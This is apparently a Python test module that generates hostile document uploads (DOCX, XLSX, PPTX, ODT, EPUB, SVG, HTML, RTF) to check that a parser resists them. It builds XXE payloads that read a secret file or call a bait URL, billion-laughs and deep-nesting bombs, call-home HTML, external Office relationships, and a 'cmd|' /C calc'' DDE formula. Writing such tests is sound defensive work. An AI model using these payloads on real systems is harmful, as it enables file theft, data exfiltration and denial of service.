"""XML, HTML and RTF that includes what is not its own, calls others, grows without end, or nests without bottom."""

from tests.uploads.building import packed
from tests.uploads.hostile import plain
from tests.uploads.hostile.archives import WORDS_BEGIN, WORDS_END, with_members
from tests.uploads.hostile.corpus import READ, Bait, hostile

DEPTH = 100_000
RELATIONSHIPS = b"""<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
%s</Relationships>"""
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
# A parser that does not include may read on, without the entity, or stop.
UNTOUCHED = (READ, "broken", "empty")


def from_file(bait: Bait) -> bytes:
    return f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{bait.secret}">]>'.encode()


def from_network(bait: Bait) -> bytes:
    url = bait.url.encode()
    return b'<!DOCTYPE a SYSTEM "%s.dtd" [<!ENTITY %% p SYSTEM "%s">%%p;<!ENTITY x SYSTEM "%s">]>' % (url, url, url)


def laughing() -> bytes:
    """Ten to the tenth of a word."""
    entities = b'<!ENTITY l0 "ha ha ha ha">'
    for level in range(1, 11):
        entities += b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10)
    return b"<!DOCTYPE a [" + entities + b'<!ENTITY x "&l10;">]>'


def swelling() -> bytes:
    """One long entity, often: no nesting that a counter of depth would see."""
    return b'<!DOCTYPE a [<!ENTITY s "' + b"swell " * 20_000 + b'"><!ENTITY x "' + b"&s;" * 5_000 + b'">]>'


PROLOGS = {
    "file": from_file,
    "network": from_network,
    "laughs": lambda bait: laughing(),
    "swell": lambda bait: swelling(),
}


def words(prolog: bytes, text: bytes = b"Hello &x; there") -> bytes:
    document = b'<?xml version="1.0"?>' + prolog + WORDS_BEGIN + text + WORDS_END
    return with_members(plain.document(), packed("word/document.xml", document))


def in_slide(prolog: bytes) -> bytes:
    slide = plain.members_of(plain.slides())["ppt/slides/slide1.xml"]
    head, _, rest = slide.partition(b"?>")
    rest = rest.replace(plain.TEXT.encode(), b"Hello &x; there")
    return with_members(plain.slides(), packed("ppt/slides/slide1.xml", head + b"?>" + prolog + rest))


def in_cell(prolog: bytes) -> bytes:
    sheet = b"""<?xml version="1.0"?>%s<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Hello &x; there</t></is></c></row></sheetData></worksheet>"""
    return with_members(plain.sheet(), packed("xl/worksheets/sheet1.xml", sheet % prolog))


def in_chapter(prolog: bytes) -> bytes:
    return plain.book(chapter=plain.CHAPTER % (prolog, b"Hello &x; there"))


def in_drawing(prolog: bytes) -> bytes:
    svg = b'<?xml version="1.0"?>%s<svg xmlns="http://www.w3.org/2000/svg"><text>Hello &x; there</text></svg>'
    return svg % prolog


PLACES = {
    "docx": words,
    "xlsx": in_cell,
    "pptx": in_slide,
    "odt": lambda prolog: plain.open_text(prolog, b"Hello &x; there"),
    "epub": in_chapter,
    "opf.epub": lambda prolog: plain.book(prolog, title=b"Hello &x; there"),
    "svg": in_drawing,
    "html": lambda prolog: (
        prolog.replace(b"DOCTYPE a", b"DOCTYPE html") + b"<html><body><p>Hello &x; there</p></body></html>"
    ),
    "xhtml": lambda prolog: plain.CHAPTER % (prolog.replace(b"DOCTYPE a", b"DOCTYPE html"), b"Hello &x; there"),
}
SAME_LIBRARY = ("pptx", "epub", "svg", "html", "xhtml")  # as one of the others: two kinds will do
for _ending, _place in PLACES.items():
    for _kind, _prolog in PROLOGS.items():
        if _ending in SAME_LIBRARY and _kind not in ("file", "laughs"):
            continue
        hostile(f"entity-{_kind}.{_ending}", *UNTOUCHED, "bomb", "too_large")(
            lambda bait, place=_place, prolog=_prolog: place(prolog(bait))  # type: ignore[misc]
        )


@hostile("bottomless.docx", "broken", READ)
def _(bait: Bait) -> bytes:
    table = b"<w:tbl><w:tr><w:tc>"
    return words(b"", b"</w:t></w:r></w:p>" + table * DEPTH + b"<w:p><w:r><w:t>")


@hostile("tables-in-tables.docx", "broken", READ)
def _(bait: Bait) -> bytes:
    """As deep as an XML parser still lets through, and two cells each: doubling, if cells are asked for their text."""
    begin, end = b"<w:tbl><w:tr><w:tc>", b"</w:tc><w:tc><w:p/></w:tc></w:tr></w:tbl>"
    depth = 70
    inner = b"<w:p><w:r><w:t>deep</w:t></w:r></w:p>"
    return words(b"", b"</w:t></w:r></w:p>" + begin * depth + inner + end * depth + b"<w:p><w:r><w:t>")


@hostile("bottomless.html", READ, "broken", "empty")
def _(bait: Bait) -> bytes:
    return b"<!doctype html><html><body>" + b"<div>" * DEPTH + b"Hello" + b"</div>" * DEPTH


@hostile("bottomless-tables.html", READ, "broken", "empty")
def _(bait: Bait) -> bytes:
    return b"<!doctype html><html><body>" + b"<table><tr><td>" * 20_000 + b"Hello"


@hostile("bottomless-lists.html", READ, "broken", "empty")
def _(bait: Bait) -> bytes:
    return b"<!doctype html><html><body>" + b"<ul><li>item" * 20_000


@hostile("endless-attribute.html", READ, "broken", "empty")
def _(bait: Bait) -> bytes:
    return b'<!doctype html><html><body><p title="' + b"x" * 11_000_000 + b'">Hello</p></body></html>'


@hostile("huge-spans.html", READ, "broken", "too_large", "bomb")
def _(bait: Bait) -> bytes:
    cell = b'<td colspan="2147483647" rowspan="2147483647">Hello</td>'
    return b"<!doctype html><html><body><table>" + (b"<tr>" + cell * 20 + b"</tr>") * 50 + b"</table></body></html>"


@hostile("calls-home.html", READ)
def _(bait: Bait) -> bytes:
    url, secret = bait.url, bait.secret
    return f"""<!doctype html><html><head><base href="{url}"><meta http-equiv="refresh" content="0;url={url}">
<link rel="stylesheet" href="{url}"><script src="{url}"></script><script>fetch("{url}")</script>
<style>@import "{url}"; body {{ background: url({url}) }}</style></head>
<body onload="fetch('{url}')"><p>Hello there, this is the text.</p><img src="{url}"><iframe src="{url}"></iframe>
<iframe src="file://{secret}"></iframe><object data="{url}"></object><embed src="{url}"><video src="{url}"></video>
<form action="{url}"><input autofocus onfocus="fetch('{url}')"></form>
<?xml-stylesheet href="{url}"?><xi:include href="file://{secret}" parse="text"/></body></html>""".encode()


@hostile("includes.xhtml", *UNTOUCHED)
def _(bait: Bait) -> bytes:
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{bait.secret}" parse="text"/>'
    return plain.CHAPTER % (b"", b"Hello there " + include.encode())


def related(whole: bytes, member: str, *links: tuple[str, str]) -> bytes:
    """The member's relationships with these added, each to an address outside."""
    old = plain.members_of(whole).get(member, RELATIONSHIPS % b"")
    line = '<Relationship Id="bait{}" Type="{}/{}" Target="{}" TargetMode="External"/>'
    added = "".join(line.format(number, OFFICE, kind, target) for number, (kind, target) in enumerate(links))
    return with_members(whole, packed(member, old.replace(b"</Relationships>", added.encode() + b"</Relationships>")))


@hostile("template-elsewhere.docx", READ)
def _(bait: Bait) -> bytes:
    kinds = "attachedTemplate image oleObject frame hyperlink subDocument aFChunk customXml".split()
    links = [(kind, address) for kind in kinds for address in (bait.url, f"file://{bait.secret}")]
    return related(plain.document(), "word/_rels/document.xml.rels", *links)


@hostile("media-elsewhere.pptx", READ)
def _(bait: Bait) -> bytes:
    kinds = "image video audio oleObject hyperlink slideLayout2".split()
    links = [(kind, address) for kind in kinds for address in (bait.url, f"file://{bait.secret}")]
    return related(plain.slides(), "ppt/slides/_rels/slide1.xml.rels", *links)


@hostile("cells-that-call.xlsx", READ, "broken")
def _(bait: Bait) -> bytes:
    formulas = [
        f'WEBSERVICE("{bait.url}")', f'HYPERLINK("{bait.url}","click")', f"'file://{bait.secret}'#$A.A1",
        "cmd|' /C calc'!A0", f'IMAGE("{bait.url}")', f"[1]{bait.url}!A1",
    ]  # fmt: skip
    cell = '<c r="A{0}" t="str"><f>{1}</f><v>result {0}</v></c>'
    escaped = [text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;") for text in formulas]
    rows = "".join(f'<row r="{n}">{cell.format(n, text)}</row>' for n, text in enumerate(escaped, 1))
    begin = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    sheet = f'<?xml version="1.0"?>{begin}{rows}</sheetData></worksheet>'.encode()
    whole = with_members(plain.sheet(), packed("xl/worksheets/sheet1.xml", sheet))
    return related(whole, "xl/_rels/workbook.xml.rels", ("externalLink", bait.url), ("connections", bait.url))


@hostile("picture-elsewhere.odt", READ)
def _(bait: Bait) -> bytes:
    frame = '<draw:frame><draw:image xlink:href="{}" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame>'
    frames = frame.format(bait.url) + frame.format(f"file://{bait.secret}")
    return plain.open_text(text=b"Hello there " + frames.encode())


@hostile("object.rtf", READ, "broken", "empty")
def _(bait: Bait) -> bytes:
    template = f'{{\\*\\template {bait.url}}}{{\\field{{\\*\\fldinst INCLUDEPICTURE "{bait.url}"}}}}'.encode()
    include = f'{{\\field{{\\*\\fldinst INCLUDETEXT "file://{bait.secret}"}}}}'.encode()
    data = b"{\\object\\objautlink\\objupdate{\\*\\objdata " + b"d0cf11e0a1b11ae1" * 4000 + b"}}"
    return b"{\\rtf1\\ansi " + template + include + data + b" Hello there\\par}"


@hostile("bottomless.rtf", READ, "broken", "empty")
def _(bait: Bait) -> bytes:
    return b"{\\rtf1\\ansi Hello " + b"{\\b " * DEPTH + b"deep" + b"}" * DEPTH + b"}"


@hostile("never-closed.rtf", READ, "broken", "empty")
def _(bait: Bait) -> bytes:
    return (
        b"{\\rtf1\\ansi Hello there\\par\\bin2147483647 \\u-99999999999? \\'zz {\\pict\\wmetafile8 " + b"0" * 1_000_001
    )
